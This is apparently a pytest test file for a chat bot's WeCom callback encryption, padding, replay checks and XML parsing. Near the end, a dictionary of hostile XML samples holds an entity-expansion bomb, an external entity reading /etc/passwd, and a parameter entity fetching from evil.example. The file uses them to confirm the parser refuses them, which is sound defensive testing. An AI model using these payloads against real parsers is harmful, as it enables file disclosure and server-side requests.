"""The callback crypto against the published vectors, and against whatever is not one."""

import json
import random
from base64 import b64decode, b64encode
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from wechatpy.enterprise.crypto import WeChatCrypto

from bot.platforms.wecom.crypto import BadCallback, Crypto, decrypt_media, key_of, media_key, padded, sign, unpadded
from bot.platforms.wecom.replay import Replays
from bot.platforms.wecom.wechat import BadXml, decrypt_blocks, encrypt_blocks, read_message, read_xml

FOUND = json.loads((Path(__file__).parents[1] / "wire/wecom/vectors.json").read_text("utf-8"))
VECTORS = {one["id"]: one for one in FOUND["vectors"]}
KEYS = {name: key_of(text) for name, text in FOUND["keys"].items()}


def crypto_of(one: dict[str, Any], receiver: str | None = None) -> Crypto:
    return Crypto(one["token"], KEYS[one["key"]], one["receiveid"] if receiver is None else receiver)


def block_of(one: dict[str, Any]) -> bytes:
    return decrypt_blocks(KEYS[one["key"]], b64decode(one["encrypt"]))


def test_every_vector_is_there():
    assert set(VECTORS) == {*"ABCDEFGHI", "S1", "S2", "S3"}


@pytest.mark.parametrize("name", VECTORS)
def test_a_vector_is_read_as_published(name: str):
    one = VECTORS[name]
    crypto, want = crypto_of(one), one["want"]
    assert sign(one["token"], one["ts"], one["nonce"], one["encrypt"]) == one["sig"]
    assert crypto.is_genuine(one["sig"], one["ts"], one["nonce"], one["encrypt"])
    plain = crypto.open(one["encrypt"]).decode()
    assert plain == want.get("plain", plain)
    assert [words for words in want.get("contains", []) if words not in plain] == []
    assert block_of(one)[-1] == want.get("pad", block_of(one)[-1])
    if "prefix" in want:
        assert crypto.seal(plain.encode(), want["prefix"].encode()) == one["encrypt"]


@pytest.mark.parametrize("name", VECTORS)
def test_wechatpy_reads_what_we_seal_and_we_read_what_it_seals(name: str):
    one = VECTORS[name]
    crypto = crypto_of(one)
    text = crypto.open(one["encrypt"])
    theirs = WeChatCrypto(one["token"], FOUND["keys"][one["key"]], one["receiveid"])
    sealed = crypto.seal(text)
    signature = sign(one["token"], "1", "2", sealed)
    assert theirs.decrypt_message({"Encrypt": sealed}, signature, "1", "2") == text.decode()
    answer = read_xml(theirs.encrypt_message(text.decode(), "n", "1").encode())
    assert crypto.is_genuine(answer["MsgSignature"], "1", "n", answer["Encrypt"])
    assert crypto.open(answer["Encrypt"]) == text


def test_s4_a_picture_is_read_with_its_own_key():
    sealed = b64decode("lefIDqLP+670jnZ9x+qhtZLyxhanJVC5W3/4anmbFLg=")
    assert decrypt_media(media_key(FOUND["keys"]["K1"]), sealed) == bytes.fromhex("89504e470d0a1a0a") + b"three-colour"
    assert decrypt_blocks(KEYS["K1"], sealed)[-1] == 12


def test_c_is_genuine_and_still_no_json():
    with pytest.raises(ValueError):
        json.loads(crypto_of(VECTORS["C"]).open(VECTORS["C"]["encrypt"]))


def test_f_with_another_nonce_fails():
    one = VECTORS["F"]
    assert not crypto_of(one).is_genuine(one["sig"], one["ts"], "437374424", one["encrypt"])


@pytest.mark.parametrize("name", VECTORS)
def test_any_one_letter_changed_fails_the_signature(name: str):
    one = VECTORS[name]
    text, chance = one["encrypt"], random.Random(name)
    for place in range(len(text)):
        other = chance.choice([letter for letter in "Ab9+/=é\ud800" if letter != text[place]])
        changed = text[:place] + other + text[place + 1 :]
        assert not crypto_of(one).is_genuine(one["sig"], one["ts"], one["nonce"], changed)


@pytest.mark.parametrize("signature", ["", "é", "\ud800", "0" * 40, "x" * 100_000])
def test_a_strange_signature_is_only_wrong(signature: str):
    one = VECTORS["S1"]
    assert not crypto_of(one).is_genuine(signature, one["ts"], one["nonce"], one["encrypt"])


@pytest.mark.parametrize(("name", "receiver"), [("B", ""), ("S1", "x"), ("A", "wx5823bf96d3bd56c"), ("A", "WX5823")])
def test_the_wrong_receiver_fails(name: str, receiver: str):
    with pytest.raises(BadCallback):
        crypto_of(VECTORS[name], receiver).open(VECTORS[name]["encrypt"])


@pytest.mark.parametrize("pad", [0, 33, 64, 255])
def test_a_padding_that_cannot_be_fails(pad: int):
    one = VECTORS["S3"]
    block = block_of(one)[:-1] + bytes([pad])
    with pytest.raises(BadCallback):
        crypto_of(one).open(b64encode(encrypt_blocks(KEYS["K1"], block)).decode())


def test_a_padding_of_unequal_bytes_fails():
    block = block_of(VECTORS["A"])
    spoiled = block[:-3] + b"\x00" + block[-2:]
    with pytest.raises(BadCallback):
        crypto_of(VECTORS["A"]).open(b64encode(encrypt_blocks(KEYS["K1"], spoiled)).decode())


@pytest.mark.parametrize("length", [0, 1, 11, 13, 2**31, 2**32 - 1])
def test_a_length_that_is_not_the_messages_fails(length: int):
    plain = b"1234567890123456" + length.to_bytes(4, "big") + b"xxxxxxxxxxxx"
    with pytest.raises(BadCallback):
        crypto_of(VECTORS["S3"]).open(b64encode(encrypt_blocks(KEYS["K1"], padded(plain))).decode())


def test_padding_there_and_back():
    for size in range(100):
        filled = padded(b"x" * size)
        assert len(filled) % 32 == 0
        assert 1 <= filled[-1] <= 32
        assert unpadded(filled) == b"x" * size


@pytest.mark.parametrize("text", ["", "A", "=", "====", "é", "AAAA", "A" * 22 + "==", "\n", "A" * 43, "中文", "A A A"])
def test_what_is_no_cipher_text_is_one_plain_error(text: str):
    with pytest.raises(BadCallback):
        crypto_of(VECTORS["S1"]).open(text)


def test_twenty_thousand_random_blocks_give_nothing_but_the_one_error():
    crypto, chance, opened = crypto_of(VECTORS["S1"]), random.Random(4), 0
    for _ in range(20_000):
        size = chance.choice([0, 1, 15, 16, 31, 32, 48, 64, 96])
        data = chance.randbytes(size)
        if chance.random() < 0.5 and size % 16 == 0 and size:
            data = encrypt_blocks(KEYS["K1"], padded(chance.randbytes(chance.randrange(60))))
        try:
            crypto.open(b64encode(data).decode())
            opened += 1
        except BadCallback:
            pass
    assert opened == 0


@pytest.mark.parametrize("text", ["", "A" * 42, "A" * 44, "A" * 42 + "=", "中" * 43, "A" * 42 + "\n"])
def test_a_key_of_the_wrong_length_is_refused(text: str):
    with pytest.raises(ValueError):
        key_of(text)


@pytest.mark.parametrize("text", ["", "AAAA", "A" * 42, "A" * 44, "%" * 43, "é" * 43])
def test_a_media_key_of_the_wrong_length_is_refused(text: str):
    with pytest.raises(BadCallback):
        media_key(text)


def test_media_that_is_cut_off_is_refused():
    sealed = b64decode("lefIDqLP+670jnZ9x+qhtZLyxhanJVC5W3/4anmbFLg=")
    for size in range(len(sealed)):
        with pytest.raises(BadCallback):
            decrypt_media(KEYS["K1"], sealed[:size])


# -- replays ---------------------------------------------------------------------------------------------

NOW = datetime(2026, 6, 12, 2, tzinfo=UTC)
MOMENT = int(NOW.timestamp())


@pytest.mark.parametrize(
    ("text", "fresh"),
    [
        (str(MOMENT), True),
        (str(MOMENT - 300), True),
        (str(MOMENT + 300), True),
        (str(MOMENT - 301), False),
        (str(MOMENT + 301), False),
        (str(MOMENT * 1000), False),
        ("", False),
        ("-1", False),
        ("1e9", False),
        ("１７８１２２９６００", False),
        ("9" * 5000, False),
    ],
)
def test_only_what_was_signed_a_moment_ago_is_fresh(text: str, fresh: bool):
    assert Replays().is_fresh(text, NOW) is fresh


def test_what_was_heard_is_known_and_the_memory_has_an_end():
    replays = Replays(most=10)
    for number in range(30):
        assert replays.age("1", str(number), "s", NOW) is None
        replays.note("1", str(number), "s", NOW)
        assert replays.age("1", str(number), "s", NOW + timedelta(seconds=7)) == 7
    assert replays.age("1", "0", "s", NOW) is None
    assert replays.age("1", "29", "s", NOW) == 0


# -- XML -------------------------------------------------------------------------------------------------

BOMB = b'<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><xml><Encrypt>&b;</Encrypt></xml>'
HOSTILE = {
    "bomb": BOMB,
    "external": b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><xml><Encrypt>&e;</Encrypt></xml>',
    "doctype": b"<!DOCTYPE xml><xml><Encrypt>a</Encrypt></xml>",
    "parameter": b'<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/">%p;]><xml/>',
    "utf16": BOMB.decode().encode("utf-16"),
    "utf7": b'<?xml version="1.0" encoding="utf-7"?>+ADwAIQ-DOCTYPE x+AD4-<xml/>',
    "comment": b"<xml><!-- a --></xml>",
    "deep": b"<xml>" + b"<a>" * 5000 + b"</a>" * 5000 + b"</xml>",
    "wide": b"<xml>" + b"<a/>" * 5000 + b"</xml>",
    "other root": b"<html><Encrypt>a</Encrypt></html>",
    "text": b"<xml>words</xml>",
    "empty": b"",
    "half": b"<xml><Encrypt>",
    "twice": b"<xml/><xml/>",
    "unknown entity": b"<xml><Encrypt>&a;</Encrypt></xml>",
    "control": b"<xml><Encrypt>\x00</Encrypt></xml>",
    "not utf-8": b"<xml><Encrypt>\xff\xfe</Encrypt></xml>",
}


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_xml_is_refused(name: str):
    with pytest.raises(BadXml):
        read_xml(HOSTILE[name])


def test_an_applications_message_is_read():
    message = read_message(crypto_of(VECTORS["B"]).open(VECTORS["B"]["encrypt"]))
    assert (message.kind, message.sender, message.message_id) == ("text", "mycreate", "4561255354251345929")
    assert (message.fields["Content"], message.created) == ("hello", 1409659813)


@pytest.mark.parametrize(
    "text",
    [
        b"<xml><MsgType>text</MsgType></xml>",
        b"<xml><FromUserName>a</FromUserName></xml>",
        b"<xml><MsgType>text</MsgType><FromUserName>a</FromUserName><CreateTime>x</CreateTime></xml>",
        b"<xml><MsgType><a/></MsgType><FromUserName>a</FromUserName></xml>",
        b"<xml><MsgType>event</MsgType><FromUserName>a</FromUserName></xml>",
    ],
)
def test_a_message_that_lacks_something_is_one_plain_error(text: bytes):
    with pytest.raises(BadXml):
        read_message(text)
